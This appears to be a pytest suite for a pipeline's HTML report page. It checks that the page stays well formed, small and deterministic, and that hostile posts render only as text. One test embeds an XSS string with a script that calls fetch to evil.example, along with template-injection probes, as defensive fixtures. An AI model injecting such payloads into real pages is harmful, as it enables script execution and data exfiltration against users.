"""The page as a file: what it holds, and that no post gets out of its text."""

from __future__ import annotations

import io
import shutil
import tarfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from pipeline.options import RunOptions
from pipeline.output import earlier_run, prepare
from pipeline.report.command import main
from pipeline.report.page import visible
from pipeline.report.posts import Mention, split

WITHOUT_END = {"meta", "link", "img", "input", "br"}


class Page(HTMLParser):
    """Collects the elements and the texts of a page; checks that elements are closed in order."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in WITHOUT_END:
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if not {"script", "style"} & set(self._open):
            self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def count(self, tag: str, name: str = "", value: str = "") -> int:
        return sum(
            found == tag and value in attributes.get(name, "").split() if name else found == tag for found, attributes in self.elements
        )


@pytest.fixture(scope="module")
def jpeg_of_noise() -> bytes:
    """A picture of 400 x 300 that no JPEG makes small."""
    file = io.BytesIO()
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (300, 400, 3), np.uint8)).save(file, "JPEG")
    return file.getvalue()


@pytest.fixture(scope="module")
def written(output: Path) -> str:
    assert main([str(output)]) == 0
    return (output / "report.html").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def page(written: str) -> Page:
    return Page(written)


def test_all_parts_are_there_without_a_script(page: Page) -> None:
    assert page.count("article") == 48
    for heading in ("Entities by type", "Status of pictures", "Scores of entities", "Over time", "Most frequent names", "Rejects", "Posts"):
        assert heading in page.texts
    assert "Grace Hopper" in page.texts
    assert "Bonjour " in page.texts
    assert "not_json" in page.texts
    assert "a note <b>here</b>" in page.texts
    assert page.count("mark", "class", "entity") >= 64
    assert page.count("g", "class", "seen") > 0


def test_hostile_posts_are_text(page: Page) -> None:
    assert "<script>document.title = 'owned'; fetch('https://evil.example/x')</script>" in page.text
    assert "javascript:alert(1) {{ 7*7 }} {% raw %} ${7*7} &lt;b&gt; &amp;" in page.text
    assert "U+202E" in page.text
    assert page.count("script") == page.count("style") == page.count("form") == 1
    assert {tag for tag, _ in page.elements} & {"iframe", "object", "embed", "base", "video", "audio"} == set()
    assert page.count("meta") == 6


def test_nothing_of_the_page_is_an_address_elsewhere(page: Page) -> None:
    for tag, attributes in page.elements:
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "srcset", "action", "formaction", "ping", "poster", "background"}, (tag, name)
            if name in {"src", "href", "xlink:href"}:
                assert value.startswith(("#", "data:image/jpeg;base64,")) or value == "data:,", (tag, value)
    assert not any(character in page.text for character in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\x00\x1b")


def test_the_policy_allows_the_page_alone(page: Page) -> None:
    [policy] = [attributes["content"] for tag, attributes in page.elements if attributes.get("http-equiv") == "Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "unsafe" not in policy
    assert "http" not in policy


def test_long_texts_are_cut_and_the_file_stays_small(written: str, page: Page) -> None:
    assert "and 98,500 more characters" in page.text
    assert len(written) < 2_000_000


def test_the_worst_posts_stay_within_15_mb_for_200(tmp_path: Path, write_output: Callable[..., Path], jpeg_of_noise: bytes) -> None:
    with tarfile.open(tmp_path / "noise.tar", "w") as archive:
        for number in range(160):
            info = tarfile.TarInfo(f"{number}.jpg")
            info.size = len(jpeg_of_noise)
            archive.addfile(info, io.BytesIO(jpeg_of_noise))
    rows = []
    for number in range(40):
        keys = [f"{4 * number + index}.jpg" for index in range(4)]
        box = [1.0, 1.0, 300.0, 200.0]
        evidence = [{"image": key, "object": "traffic light", "box": box, "weight": 0.1} for key in keys * 5]
        entities = [{"text": '"', "type": "PER", "start": n, "end": n + 1, "score": 0.5, "evidence": evidence} for n in range(200)]
        objects = [{"label": "traffic light", "score": 0.5, "box": box}] * 100
        texts = [{"kind": "ocr", "text": '"' * 5000, "box": box, "score": 0.5, "entities": []}] * 50
        images = [{"key": key, "status": "ok", "width": 400, "height": 300, "objects": objects, "texts": texts} for key in keys]
        fields = {"post_id": '"' * 1000, "text": '"' * 100_000, "source": "s" * 1000, "line": number, "model": "m", "extra": None}
        rows.append({**fields, "entities": entities, "images": images})
    rejects = [{"stage": "post", "reason": "not_json", "source": "s", "line": 1, "payload": "'" * 1024}] * 99
    output = write_output(tmp_path / "out", rows, rejects, [tmp_path / "noise.tar"])
    assert main([str(output), "--posts", "40"]) == 0
    assert (output / "report.html").stat().st_size < 300_000 + 73_500 * 40  # 15 MB for 200


def test_a_run_may_replace_an_output_with_a_report(output: Path, tmp_path: Path) -> None:
    moved = tmp_path / "out"
    shutil.copytree(output, moved)
    assert main([str(moved), "--posts", "0"]) == 0
    assert (moved / "report.html").exists()
    assert earlier_run(RunOptions(posts=["posts.jsonl"], output=str(moved), overwrite=True)) is None
    prepare(str(moved), resumed=False)
    assert not (moved / "report.html").exists()


def test_names_lead_to_their_posts(page: Page) -> None:
    ids = {attributes["id"] for _, attributes in page.elements if "id" in attributes}
    links = [attributes["href"] for tag, attributes in page.elements if tag == "a"]
    assert all(link[1:] in ids for link in links)
    described = [attributes["aria-describedby"] for _, attributes in page.elements if "aria-describedby" in attributes]
    assert described
    assert set(described) <= ids


def test_the_same_output_gives_the_same_page(output: Path, written: str, tmp_path: Path) -> None:
    assert main([str(output), "--to", str(tmp_path / "again.html")]) == 0
    again = (tmp_path / "again.html").read_text(encoding="utf-8")
    assert again.partition("<footer")[0] == written.partition("<footer")[0]


def test_fewer_posts_are_chosen_from_all_files(output: Path, tmp_path: Path) -> None:
    assert main([str(output), "--posts", "12", "--to", str(tmp_path / "few.html")]) == 0
    page = Page((tmp_path / "few.html").read_text(encoding="utf-8"))
    assert page.count("article") == 12
    assert "12 of 48" in page.text
    assert "missing" in page.texts
    assert "corrupt" in page.texts


def test_an_output_without_words_of_pictures_has_a_page(tmp_path: Path, write_output: Callable[..., Path]) -> None:
    assert main([str(write_output(tmp_path / "out", [], with_texts=False))]) == 0
    page = Page((tmp_path / "out" / "report.html").read_text(encoding="utf-8"))
    assert page.count("article") == 0
    assert "Nothing was rejected." in page.text


@given(st.text() | st.text("<>&\"'\u202e\u2066\x00 ab;#"))
def test_a_visible_text_is_the_text(text: str) -> None:
    shown = Page(visible(text)).text
    unseen = {
        c
        for c in text
        if c in "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069" or (ord(c) < 160 and not c.isprintable())
    }
    for character in unseen - {"\n", "\t"}:
        text = text.replace(character, f"U+{ord(character):04X}")
    assert shown == text


spans = st.lists(st.tuples(st.integers(-5, 30), st.integers(-5, 30)), max_size=8)


@given(st.text(max_size=25), spans)
def test_pieces_join_to_the_text_whatever_the_entities_say(text: str, given_spans: list[tuple[int, int]]) -> None:
    entities = [{"start": start, "end": end} for start, end in given_spans]
    pieces = split(text, entities, lambda number, _: Mention("", "PER", 1.0, number))
    assert "".join(piece.text for piece in pieces) == text
    for piece in pieces:
        if piece.mention:
            start, end = given_spans[piece.mention.number or 0]
            assert piece.text == text[start:end]
